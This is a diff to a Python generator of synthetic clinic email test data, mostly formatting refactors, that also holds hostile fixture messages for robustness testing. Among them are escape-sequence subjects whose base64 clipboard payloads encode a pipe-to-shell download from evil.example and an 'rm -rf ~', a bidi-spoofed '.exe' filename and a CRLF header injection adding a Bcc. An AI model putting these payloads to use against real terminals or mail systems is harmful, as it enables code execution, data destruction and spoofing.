@@ -42,6 +42,11 @@ CLINIC_MAILBOXES = {
     "billing": f"billing@{CLINIC_DOMAIN}",
     "results": f"results@{CLINIC_DOMAIN}",
 }
+_MAILBOX_TITLES = {
+    "appointments": "Appointments",
+    "billing": "Billing Office",
+    "results": "Nurse Line",
+}
 RED_FLAG_SUBJECT = "chest pain since this morning"
 _MX = f"mx1.{CLINIC_DOMAIN}"
 _CLINIC_OFFSET_MIN = -300
@@ -236,7 +241,11 @@ _TOPICS: tuple[_Topic, ...] = (
             "{doctor} is not taking new patients at the moment, but {doctor2} has availability on {day} at {time}. Would that work for you?",
         ),
         attachment="pdf",
-        filenames=("New_Patient_Forms.pdf", "intake_form_signed.pdf", "Aufnahmeformular_Überweisung.pdf"),
+        filenames=(
+            "New_Patient_Forms.pdf",
+            "intake_form_signed.pdf",
+            "Aufnahmeformular_Überweisung.pdf",
+        ),
     ),
     _Topic(
         key="reschedule",
@@ -817,8 +826,8 @@ class _CorpusBuilder:
                 + base64.b64encode(rng.randbytes(60)).decode("ascii")
             )
             lines.append(
-                f"X-Received: by 2002:a05:6000:{rng.randint(100, 999)}:b0:33d:{rng.randint(100, 999)}"
-                f" with SMTP id {rng.randbytes(10).hex()};\r\n        {_fmt_date(ts, -480)}"
+                f"X-Received: by 2002:a05:6000:{rng.randint(100, 999)}"
+                f":b0:33d:{rng.randint(100, 999)} with SMTP id {rng.randbytes(10).hex()};\r\n        {_fmt_date(ts, -480)}"
             )
             lines.append(
                 "X-Google-Smtp-Source: "
@@ -884,14 +893,17 @@ class _CorpusBuilder:
         if position == 0:
             greeting = rng.choice(("Hello,", "Hi,", "Good morning,", "Dear Riverside staff,", ""))
             opener = rng.choice(thread.topic.openers)
-            details = rng.sample(thread.topic.details, min(len(thread.topic.details), rng.randint(2, 4)))
+            pool = thread.topic.details
+            details = rng.sample(pool, min(len(pool), rng.randint(2, 4)))
             paragraphs = [opener, " ".join(details[:2])]
             if len(details) > 2:
                 paragraphs.append(" ".join(details[2:]))
         else:
             greeting = rng.choice(("Hi,", "Hello,", "", ""))
             paragraphs = [rng.choice(_PATIENT_FOLLOWUPS)]
-        closing = rng.choice(("Thank you,", "Thanks,", "Best regards,", "Sincerely,", "Thanks so much,"))
+        closing = rng.choice(
+            ("Thank you,", "Thanks,", "Best regards,", "Sincerely,", "Thanks so much,")
+        )
         text = "\r\n\r\n".join(p.format_map(slots) for p in paragraphs)
         if greeting:
             text = f"{greeting}\r\n\r\n{text}"
@@ -920,10 +932,9 @@ class _CorpusBuilder:
         parts = [f"Hi {slots['first']},", body.format_map(slots)]
         if extra:
             parts.append(extra)
-        mailbox_title = {"appointments": "Appointments", "billing": "Billing Office", "results": "Nurse Line"}
         parts.append(
             f"Kind regards,\r\n{staff.name}\r\n{staff.title} | {CLINIC_NAME}\r\n"
-            f"{mailbox_title[staff.mailbox]}: {CLINIC_MAILBOXES[staff.mailbox]}\r\n"
+            f"{_MAILBOX_TITLES[staff.mailbox]}: {CLINIC_MAILBOXES[staff.mailbox]}\r\n"
             "1200 River Road, Suite 4, Springfield | Phone (555) 010-4400 | Fax (555) 010-4401"
         )
         parts.append(_DISCLAIMER)
@@ -970,7 +981,8 @@ class _CorpusBuilder:
                 "<meta name=\"Generator\" content=\"Microsoft Word 15 (filtered medium)\">\r\n"
                 f"{_OUTLOOK_STYLE}\r\n</head>\r\n<body lang=\"EN-US\" link=\"#0563C1\" "
                 "vlink=\"#954F72\" style=\"word-wrap:break-word\">\r\n"
-                f"<div class=\"WordSection1\">\r\n{body}{quote_html}</div>\r\n</body>\r\n</html>\r\n"
+                f"<div class=\"WordSection1\">\r\n{body}{quote_html}</div>\r\n"
+                "</body>\r\n</html>\r\n"
             )
         body = "".join(f"<div>{p}</div><div><br></div>\r\n" for p in paragraphs)
         return (
@@ -1067,7 +1079,8 @@ class _CorpusBuilder:
         quote = self._quote(thread, profile) if position > 0 else ""
         full_text = own + quote
         charset = next((c for c in style.charsets if _fits(full_text, c)), "utf-8")
-        header_charset = charset if _fits(sender.name + thread.subject, charset) else "utf-8"
+        header_text = sender.name + to_name + thread.subject
+        header_charset = charset if _fits(header_text, charset) else "utf-8"
 
         if position == 0:
             subject = thread.subject
@@ -1081,15 +1094,16 @@ class _CorpusBuilder:
         headers = self._transport_headers(
             None if from_staff else sender, recipient, item.ts, profile, domain
         )
-        headers.append(f"From: {_fmt_addr(sender.name, from_address, header_charset, style.header_mode)}")
-        headers.append(f"To: {_fmt_addr(to_name, to_address, header_charset, style.header_mode)}")
+        mode = style.header_mode
+        headers.append(f"From: {_fmt_addr(sender.name, from_address, header_charset, mode)}")
+        headers.append(f"To: {_fmt_addr(to_name, to_address, header_charset, mode)}")
         if thread.cc is not None and position == 0:
             headers.append(
-                f"Cc: {_fmt_addr(thread.cc.name, thread.cc.address, 'utf-8', style.header_mode)}"
+                f"Cc: {_fmt_addr(thread.cc.name, thread.cc.address, 'utf-8', mode)}"
             )
         if from_staff and rng.random() < 0.5:
             headers.append(f"Reply-To: {CLINIC_MAILBOXES[thread.staff.mailbox]}")
-        headers.append(f"Subject: {_header_text(subject, header_charset, style.header_mode)}")
+        headers.append(f"Subject: {_header_text(subject, header_charset, mode)}")
         headers.append(f"Date: {date}")
         headers.append(f"Message-ID: {message_id}")
         drop_refs = position > 0 and not from_staff and rng.random() < 0.12
@@ -1099,9 +1113,8 @@ class _CorpusBuilder:
             headers.append("References: " + "\r\n ".join(refs))
         if profile in ("outlook", "staff"):
             headers.append(f"Thread-Topic: {_header_text(thread.subject, header_charset, 'Q')}")
-            headers.append(
-                "Thread-Index: " + base64.b64encode(rng.randbytes(22 + 5 * position)).decode("ascii")
-            )
+            thread_index = base64.b64encode(rng.randbytes(22 + 5 * position)).decode("ascii")
+            headers.append(f"Thread-Index: {thread_index}")
             headers.append("Accept-Language: en-US")
             headers.append("Content-Language: en-US")
             headers.append("X-MS-Has-Attach: ")
@@ -1120,7 +1133,8 @@ class _CorpusBuilder:
         text_part = self._encode_part(full_text, "plain", style, charset)
         if with_html:
             boundary = self._boundary(profile)
-            html_part = self._encode_part(self._html(own, quote, profile, charset), "html", style, charset)
+            html_text = self._html(own, quote, profile, charset)
+            html_part = self._encode_part(html_text, "html", style, charset)
             body_part = (
                 f"Content-Type: multipart/alternative; boundary=\"{boundary}\"\r\n\r\n"
                 f"--{boundary}\r\n{text_part}\r\n--{boundary}\r\n{html_part}\r\n--{boundary}--\r\n"
@@ -1179,13 +1193,16 @@ def generate_corpus(
 # ------------------------------------------------------------------------ hostile
 
 
-def _simple(headers: Sequence[str], body: str | bytes, *, extra: bytes = b"") -> bytes:
-    head = "\r\n".join(headers).encode("utf-8", "surrogateescape") + b"\r\n\r\n"
-    data = body.encode("utf-8", "surrogateescape") if isinstance(body, str) else body
-    return head + data + extra
+def _simple(headers: Sequence[str], body: str | bytes) -> bytes:
+    """Headers and body joined as raw bytes; str parts are written as UTF-8."""
+    head = "\r\n".join(headers).encode("utf-8") + b"\r\n\r\n"
+    return head + (body.encode("utf-8") if isinstance(body, str) else body)
 
 
-def _base_headers(subject: str, message_id: str | None = "<hostile-{name}@attacker.example>") -> list[str]:
+_HOSTILE_ID = "<hostile-{name}@attacker.example>"
+
+
+def _base_headers(subject: str, message_id: str | None = _HOSTILE_ID) -> list[str]:
     lines = [
         "From: Mallory <mallory@attacker.example>",
         f"To: {CLINIC_MAILBOXES['appointments']}",
@@ -1212,8 +1229,16 @@ def hostile_messages() -> list[tuple[str, bytes]]:
     Every name is unique; the list order is stable. Each message is something a real
     attacker, a broken mailer or a buggy gateway has sent.
     """
-    esc_subject = "Invoice \x1b[31mOVERDUE\x1b[0m \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\ \x9b2J"
-    markup = "Re: [/bold] [@click=app.quit]Reschedule[/] [b]now[/b] [link=https://evil.example]portal[/link]"
+    # SGR colour, OSC 52 clipboard write, OSC 8 hyperlink and a C1 CSI (erase screen).
+    esc_subject = (
+        "Invoice \x1b[31mOVERDUE\x1b[0m \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"
+        "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\ \x9b2J"
+    )
+    markup = (
+        "Re: [/bold] [@click=app.quit]Reschedule[/] [b]now[/b] "
+        "[link=https://evil.example]portal[/link]"
+    )
+    escaped_name = "Dr. Patel\x1b[8m hidden \x1b[0m\x1b]52;c;cm0gLXJmIH4=\x07"
     messages: list[tuple[str, bytes]] = []
 
     def add(name: str, raw: bytes) -> None:
@@ -1240,7 +1265,7 @@ def hostile_messages() -> list[tuple[str, bytes]]:
         _simple(
             [
                 "From: =?utf-8?B?"
-                + base64.b64encode("Dr. Patel\x1b[8m hidden \x1b[0m\x1b]52;c;cm0gLXJmIH4=\x07".encode()).decode()
+                + base64.b64encode(escaped_name.encode()).decode()
                 + "?= <patel@attacker.example>",
                 *_base_headers("Lab results")[1:],
                 "Content-Type: text/plain; charset=utf-8",
@@ -1275,8 +1300,12 @@ def hostile_messages() -> list[tuple[str, bytes]]:
         "bidi-override",
         _simple(
             [
-                "From: " + _encoded_words("Billing \u202eknaB\u202c", "utf-8", "B") + " <billing@attacker.example>",
-                *_base_headers(_encoded_words("Statement \u202egpj.exe\u202c \u2066ok\u2069", "utf-8", "B"))[1:],
+                "From: "
+                + _encoded_words("Billing \u202eknaB\u202c", "utf-8", "B")
+                + " <billing@attacker.example>",
+                *_base_headers(
+                    _encoded_words("Statement \u202egpj.exe\u202c \u2066ok\u2069", "utf-8", "B")
+                )[1:],
                 "Content-Type: multipart/mixed; boundary=\"b1\"",
             ],
             "--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
@@ -1311,7 +1340,10 @@ def hostile_messages() -> list[tuple[str, bytes]]:
         "unknown-charset",
         _simple(
             _base_headers("=?x-klingon-8?Q?Qapla=E9?= results")
-            + ["Content-Type: text/plain; charset=\"x-klingon-8\"", "Content-Transfer-Encoding: 8bit"],
+            + [
+                "Content-Type: text/plain; charset=\"x-klingon-8\"",
+                "Content-Transfer-Encoding: 8bit",
+            ],
             b"\xe9\xfc\xff\xfe unknown charset body\r\n",
         ),
     )
@@ -1333,7 +1365,8 @@ def hostile_messages() -> list[tuple[str, bytes]]:
     )
     depth = 200
     nested_head = "".join(
-        f"--n{i}\r\nContent-Type: multipart/mixed; boundary=\"n{i + 1}\"\r\n\r\n" for i in range(depth)
+        f"--n{i}\r\nContent-Type: multipart/mixed; boundary=\"n{i + 1}\"\r\n\r\n"
+        for i in range(depth)
     )
     nested_tail = "".join(f"--n{i}--\r\n" for i in range(depth, -1, -1))
     add(
@@ -1371,7 +1404,8 @@ def hostile_messages() -> list[tuple[str, bytes]]:
     add(
         "huge-attachment-20mb",
         _simple(
-            _base_headers("Scans of all my records") + ["Content-Type: multipart/mixed; boundary=\"big\""],
+            _base_headers("Scans of all my records")
+            + ["Content-Type: multipart/mixed; boundary=\"big\""],
             "--big\r\nContent-Type: text/plain\r\n\r\nHere are the scans.\r\n"
             "--big\r\nContent-Type: application/pdf; name=\"scans.pdf\"\r\n"
             "Content-Disposition: attachment; filename=\"scans.pdf\"\r\n"
@@ -1384,7 +1418,8 @@ def hostile_messages() -> list[tuple[str, bytes]]:
             _base_headers("Insurance card") + ["Content-Type: multipart/mixed; boundary=\"bb\""],
             "--bb\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
             "SGVsbG8gd29ybGQ!!!*** not base64 at all ===\r\nQUJD=RE\r\n"
-            "--bb\r\nContent-Type: image/jpeg; name=\"card.jpg\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
+            "--bb\r\nContent-Type: image/jpeg; name=\"card.jpg\"\r\n"
+            "Content-Transfer-Encoding: base64\r\n\r\n"
             "/9j/4AAQSkZJRgABAQ\r\n%%%%\r\n/9j/4A=\r\n--bb--\r\n",
         ),
     )
@@ -1404,12 +1439,13 @@ def hostile_messages() -> list[tuple[str, bytes]]:
             b"Before NUL\x00after NUL\x00\x00 and more.\r\n",
         ),
     )
+    injected = b"Refill\r\nBcc: everyone@attacker.example\r\nX-Evil: 1"
     add(
         "header-injection-encoded-crlf",
         _simple(
             _base_headers(
                 "=?utf-8?B?"
-                + base64.b64encode(b"Refill\r\nBcc: everyone@attacker.example\r\nX-Evil: 1").decode()
+                + base64.b64encode(injected).decode()
                 + "?="
             )
             + ["Content-Type: text/plain"],
